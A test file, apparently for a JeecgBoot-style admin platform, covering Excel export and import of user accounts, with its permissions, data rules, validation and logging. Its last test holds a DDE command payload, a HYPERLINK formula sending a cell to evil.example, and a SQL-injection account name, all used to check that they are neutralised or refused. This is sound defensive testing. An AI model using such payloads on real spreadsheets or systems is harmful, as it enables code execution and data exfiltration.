/**
 * Users in Excel (issue 16): GET /platform/sys/user/exportXls answers an .xlsx of the users the list keeps
 * for the same filters (or the ticked ones), as a person reads them; POST /platform/sys/user/importExcel
 * takes that file back — every row checked by the rules of 添加用户, all rows written or none, each bad
 * row named by its Excel row number and reason. The calls are made as JeecgBoot's client makes them
 * (JeecgListMixin.js handleExportXls: the list's params plus `selections`; handleImportExcel: the field
 * `file`). On each dialect.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { UserRecord } from '../../schemas/index';
import { createTestRole, createTestUser, idOf } from '../../server/testing/accounts';
import { envelopeOf, getWithToken, login, sendWithToken, tokenFor } from '../../server/testing/api';
import { importFile, sheetsOf, workbookOf, type TestCell } from '../../server/testing/excel';
import { dialects, withApp, type TestApp } from '../../server/testing/test-db';

const USER = '/platform/sys/user';
const IMPORT = `${USER}/importExcel`;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HEADERS = [
  '用户账号',
  '真实姓名',
  '性别',
  '生日',
  '手机号码',
  '邮箱',
  '座机',
  '工号',
  '职务',
  '所属部门',
  '身份',
  '负责部门',
  '角色',
  '状态',
  '创建时间',
  '初始密码',
];

/** A sheet 用户 with the export's headers and these rows. */
const usersFile = (rows: TestCell[][]) => workbookOf({ 用户: [HEADERS, ...rows] });

describe.each(dialects())('users in Excel on $name', (dialect) => {
  let t: TestApp;
  let admin: string;
  beforeAll(async () => {
    t = await withApp(dialect);
    admin = await tokenFor(t.app, 'admin');
  });
  afterAll(() => t?.close());

  const exported = (query: string, token = admin) =>
    t.app.inject({ method: 'GET', url: `${USER}/exportXls?${query}`, headers: { 'x-access-token': token } });
  const records = async (query: string) =>
    envelopeOf<{ records: UserRecord[] }>(
      await getWithToken(t.app, `${USER}/list?pageSize=100&${query}`, admin),
    ).result.records;
  const userNamed = (username: string) =>
    t.db.selectFrom('sys_user').selectAll().where('username', '=', username).executeTakeFirst();

  it('guards export and import with their own buttons, user:export and user:import', async () => {
    const table = t.app.routeRegistry
      .filter((r) => /\/(exportXls|importExcel)$/.test(r.url) && r.method !== 'HEAD')
      .map((r) => `${r.method} ${r.url} ${r.permission}`);
    expect(table.sort()).toEqual([
      'GET /platform/reptile/data/exportXls reptile:data',
      'GET /platform/sys/dict/exportXls dict:export',
      'GET /platform/sys/log/exportXls log:export',
      'GET /platform/sys/position/exportXls position:export',
      'GET /platform/sys/role/exportXls role:export',
      'GET /platform/sys/user/exportXls user:export',
      'POST /platform/sys/dict/importExcel dict:import',
      'POST /platform/sys/position/importExcel position:import',
      'POST /platform/sys/role/importExcel role:import',
      'POST /platform/sys/user/importExcel user:import',
    ]);
    // A reader of the user list may neither export nor import.
    await createTestRole(t.db, 'user_reader', ['system', 'system-user']);
    await createTestUser(t.db, 'reader1', { roles: ['user_reader'] });
    const reader = await tokenFor(t.app, 'reader1');
    expect((await exported('', reader)).statusCode).toBe(403);
    expect((await importFile(t.app, IMPORT, reader, await usersFile([['x1', 'x']]))).statusCode).toBe(403);
  });

  it('exports the users the list keeps, as a person reads them, with the client’s own parameters', async () => {
    // What JeecgListMixin sends: the search, the sort, the page and the columns shown (ignored), and _t.
    const query =
      'username=s&column=createTime&order=desc&field=id,,username,realname&pageNo=1&pageSize=10&_t=1';
    const response = await exported(query);
    expect(response.statusCode, response.body.slice(0, 200)).toBe(200);
    expect(response.headers['content-type']).toBe(XLSX);
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename*=UTF-8''${encodeURIComponent('用户.xlsx')}`,
    );
    const [header, ...rows] = (await sheetsOf(response.rawPayload))['用户']!;
    expect(header).toEqual(HEADERS);
    const listed = await records('username=s&column=createTime&order=desc');
    expect(rows.map((row) => row[0])).toEqual(listed.map((r) => r.username));
    const zhangsan = rows.find((row) => row[0] === 'zhangsan')!;
    expect(zhangsan.slice(0, 14)).toEqual([
      'zhangsan',
      '张三',
      '男',
      '1992-07-08',
      '13912345678',
      'zhangsan@dougong.dev',
      '',
      expect.any(String),
      '开发工程师',
      '研发部,前端组',
      '普通用户',
      '',
      '普通用户',
      '正常',
    ]);
    expect(zhangsan[15]).toBe('');
  });

  it('exports only the ticked users, within the caller’s data rules', async () => {
    const [lisi, wangwu] = [
      await idOf(t.db, 'sys_user', 'username', 'lisi'),
      await idOf(t.db, 'sys_user', 'username', 'wangwu'),
    ];
    // A trailing comma, as the client joins selectedRowKeys; a filter that would keep neither is ignored.
    const response = await exported(`selections=${lisi},${wangwu},&username=zzz`);
    expect(response.statusCode).toBe(200);
    const rows = (await sheetsOf(response.rawPayload))['用户']!.slice(1);
    expect(rows.map((row) => row[0]).sort()).toEqual(['lisi', 'wangwu']);
    expect(rows.find((row) => row[0] === 'lisi')![2]).toBe('女');

    const bad = await exported('selections=a%27%20or%201%3D1');
    expect(bad.statusCode).toBe(400);
    expect(envelopeOf(bad).message).toBe('请求参数错误：selections 应为逗号分隔的记录 id，最多 10000 个');

    // A caller whose rule on 用户管理 shows only itself exports only itself, ticked or not.
    const roleId = await createTestRole(t.db, 'export_self', ['system', 'system-user', 'user:export']);
    const selfId = await createTestUser(t.db, 'exportself', { roles: ['export_self'] });
    const page = await idOf(t.db, 'sys_permission', 'component_name', 'system-user');
    const rule = await sendWithToken(t.app, 'POST', '/platform/sys/permission/addPermissionRule', admin, {
      permissionId: page,
      ruleName: '只看自己',
      ruleColumn: 'username',
      ruleConditions: '=',
      ruleValue: '#{sys_user_code}',
    });
    await sendWithToken(t.app, 'POST', '/platform/sys/permission/saveDatarule', admin, {
      permissionId: page,
      roleId,
      dataRuleIds: envelopeOf<{ id: string }>(rule).result.id,
    });
    const self = await tokenFor(t.app, 'exportself');
    for (const query of ['', `selections=${lisi},${selfId}`]) {
      const own = await exported(query, self);
      expect(own.statusCode).toBe(200);
      expect((await sheetsOf(own.rawPayload))['用户']!.slice(1).map((row) => row[0])).toEqual(['exportself']);
    }
  });

  it('imports its own export back: the same users, roles, departments and positions', async () => {
    const make = await sendWithToken(t.app, 'POST', `${USER}/add`, admin, {
      username: 'roundtrip1',
      password: 'Round-123',
      realname: '往返一',
      sex: 2,
      birthday: '1990-05-06',
      email: 'rt1@example.com',
      phone: '13511112222',
      telephone: '010-12345678',
      workNo: 'W001',
      post: 'DEV,QA',
      selecteddeparts: [
        await idOf(t.db, 'sys_depart', 'org_code', 'A01A01'),
        await idOf(t.db, 'sys_depart', 'org_code', 'A01A02'),
      ],
      userIdentity: 2,
      departIds: await idOf(t.db, 'sys_depart', 'org_code', 'A01A01A01'),
      roleIds: [
        await idOf(t.db, 'sys_role', 'role_code', 'user'),
        await idOf(t.db, 'sys_role', 'role_code', 'auditor'),
      ],
    });
    expect(make.statusCode, make.body).toBe(200);
    const first = envelopeOf<UserRecord>(make).result;
    await sendWithToken(t.app, 'PUT', `${USER}/frozenBatch`, admin, { ids: first.id, status: 2 });
    const second = await createTestUser(t.db, 'roundtrip2', { departs: ['A01A03'], roles: ['user'] });

    const file = await exported(`selections=${first.id},${second}`);
    expect(file.statusCode).toBe(200);
    const before = await records('username=roundtrip');
    for (const id of [first.id, second])
      expect((await sendWithToken(t.app, 'DELETE', `${USER}/delete?id=${id}`, admin)).statusCode).toBe(200);
    // Deleting moves them to the recycle bin, where their account names stay taken: empty it.
    const purged = await sendWithToken(
      t.app,
      'DELETE',
      `${USER}/deleteRecycleBin?userIds=${first.id},${second}`,
      admin,
    );
    expect(purged.statusCode).toBe(200);

    // The client names the file .xls whatever it holds; the content decides.
    const response = await importFile(t.app, IMPORT, admin, file.rawPayload, '用户信息.xls');
    expect(response.statusCode, response.body).toBe(200);
    expect(envelopeOf(response)).toMatchObject({
      success: true,
      code: 200,
      message: '文件导入成功！数据行数:2；其中 2 个账号未填初始密码，暂不能登录，请用「密码」为其设置',
    });
    const after = await records('username=roundtrip');
    // New rows: their id and audit fields are the import's own.
    const same = (r: UserRecord) => ({
      ...r,
      id: undefined,
      createTime: undefined,
      createBy: undefined,
      updateTime: undefined,
      updateBy: undefined,
    });
    expect(after.map(same).sort((a, b) => a.username.localeCompare(b.username))).toEqual(
      before.map(same).sort((a, b) => a.username.localeCompare(b.username)),
    );
    expect(after.find((r) => r.username === 'roundtrip1')).toMatchObject({
      status: 2,
      post: 'DEV,QA',
      orgCode: 'A01A01',
    });
    // No password came with the file: nobody can sign in as them until an admin sets one.
    expect((await login(t.app, 'roundtrip2', '123456')).statusCode).toBe(400);
  });

  it('refuses a file with two bad rows, naming each by its row number and reason, and writes nothing', async () => {
    const file = await usersFile([
      ['good_a', '好甲'],
      ['zhangsan', '张三二'],
      ['good_b', '好乙', '女'],
      ['bad_mail', '坏邮箱', '', '', '', 'not-an-email'],
    ]);
    const response = await importFile(t.app, IMPORT, admin, file);
    expect(response.statusCode).toBe(200);
    expect(envelopeOf(response)).toMatchObject({
      success: false,
      code: 400,
      message:
        '共 2 行有误，没有导入任何数据，请改正后重新导入；第 3 行：用户账号已存在；第 5 行：邮箱格式不正确',
    });
    for (const name of ['good_a', 'good_b', 'bad_mail']) expect(await userNamed(name)).toBeUndefined();
  });

  it('checks every rule of 添加用户 on every row and says all that is wrong with each', async () => {
    const file = await usersFile([
      ['', '无账号'],
      [
        'dup_a',
        '甲',
        '未知',
        '1990/1/2',
        '123',
        '',
        '12345',
        '',
        '厨师',
        '不存在的部门',
        '普通',
        '',
        '财务角色',
        '停用',
      ],
      ['dup_a', '甲二', '', '', '13912345678'],
      ['charge1', '上级一', '', '', '', '', '', '', '', '', '普通用户', '研发部'],
      ['pw1', '密码短', '', '', '', '', '', '', '', '', '', '', '', '', '', '12345'],
      ['x'.repeat(40), 'x'.repeat(60)],
      ['mail_a', '坏邮箱甲', '', '', '', 'not-an-email'],
      ['mail_b', '坏邮箱乙', '', '', '', 'not-an-email'],
    ]);
    const response = await importFile(t.app, IMPORT, admin, file);
    expect(response.statusCode).toBe(200);
    const lines = envelopeOf(response).message.split('；');
    expect(lines).toEqual([
      '共 8 行有误，没有导入任何数据，请改正后重新导入',
      '第 2 行：用户账号不能为空',
      '第 3 行：性别应为 男、女 之一，状态应为 正常、冻结 之一，身份应为 普通用户、上级 之一，职务不存在：厨师，部门不存在：不存在的部门，' +
        '角色不存在：财务角色，座机号码格式不正确，应为区号-号码，如 010-12345678，生日应为 YYYY-MM-DD 格式的日期，手机号码格式不正确',
      '第 4 行：用户账号与第 3 行重复，手机号码已存在',
      '第 5 行：身份为「上级」的用户才能有负责部门',
      '第 6 行：初始密码应为 6-16 位任意字符',
      '第 7 行：用户账号不应多于 32 个字符，真实姓名不应多于 50 个字符',
      // A value the schema refuses is not also called a repeat of the row before.
      '第 8 行：邮箱格式不正确',
      '第 9 行：邮箱格式不正确',
    ]);
    expect(await userNamed('charge1')).toBeUndefined();
  });

  it('signs in with the 初始密码 of the file and holds the roles named, but never gives a role beyond the caller', async () => {
    const ok = await importFile(
      t.app,
      IMPORT,
      admin,
      await usersFile([
        [
          'withpw1',
          '有密码',
          '男',
          '',
          '',
          '',
          '',
          '',
          '测试工程师',
          '斗拱科技/研发部',
          '',
          '',
          '审计员',
          '',
          '',
          'Secret-123',
        ],
      ]),
    );
    expect(ok.statusCode, ok.body).toBe(200);
    expect(envelopeOf(ok).message).toBe('文件导入成功！数据行数:1');
    expect((await login(t.app, 'withpw1', 'Secret-123')).statusCode).toBe(200);
    expect((await records('username=withpw1'))[0]).toMatchObject({
      roleNames: ['审计员'],
      departNames: ['研发部'],
      post: 'QA',
      sex: 1,
    });

    // A caller who may import users but holds less than 管理员 cannot hand 管理员 out through a file.
    await createTestRole(t.db, 'importer', ['system', 'system-user', 'user:import']);
    await createTestUser(t.db, 'importer1', { roles: ['importer'] });
    const importer = await tokenFor(t.app, 'importer1');
    const refused = await importFile(
      t.app,
      IMPORT,
      importer,
      await usersFile([['climber', '越权', '', '', '', '', '', '', '', '', '', '', '管理员']]),
    );
    expect(refused.statusCode).toBe(200);
    expect(envelopeOf(refused)).toMatchObject({ success: false, code: 400 });
    expect(envelopeOf(refused).message).toBe(
      '共 1 行有误，没有导入任何数据，请改正后重新导入；第 2 行：无权授予角色：管理员（该角色有您没有的权限）',
    );
    expect(await userNamed('climber')).toBeUndefined();
  });

  it('keeps formula-looking text as text both ways and refuses real formulas and injection in the account name', async () => {
    const dde = "=cmd|' /C calc'!A0";
    const link = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    const imported = await importFile(
      t.app,
      IMPORT,
      admin,
      await usersFile([
        ['formula1', dde],
        ['formula2', link],
      ]),
    );
    expect(imported.statusCode, imported.body).toBe(200);
    expect((await userNamed('formula1'))?.realname).toBe(dde);

    const id = await idOf(t.db, 'sys_user', 'username', 'formula1');
    const response = await exported(
      `selections=${id},${await idOf(t.db, 'sys_user', 'username', 'formula2')}`,
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('用户')!;
    const names = [sheet.getCell('B2'), sheet.getCell('B3')];
    expect(names.map((cell) => cell.type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
    expect(names.map((cell) => cell.value).sort()).toEqual([dde, link].sort());

    const refused = await importFile(
      t.app,
      IMPORT,
      admin,
      await usersFile([
        ['calc1', { formula: 'CONCATENATE("a","b")', result: 'ab' }],
        ["admin' OR '1'='1", '注入'],
      ]),
    );
    expect(envelopeOf(refused).message).toBe(
      '共 2 行有误，没有导入任何数据，请改正后重新导入；第 2 行：真实姓名是公式，请改为文本或数值；第 3 行：用户账号只能包含字母、数字和 _ . @ -',
    );
    expect(await userNamed('calc1')).toBeUndefined();
  });

  it('writes an operation-log row for an import, as 导入 (operate type 5)', async () => {
    t.clock.advance(60_000);
    await importFile(t.app, IMPORT, admin, await usersFile([['logged1', '记日志']]));
    const row = await t.db
      .selectFrom('sys_log')
      .select(['log_content', 'operate_type', 'ok'])
      .where('request_url', '=', IMPORT)
      .orderBy('created_at', 'desc')
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ log_content: '导入用户', operate_type: 5, ok: 1 });
  });
});
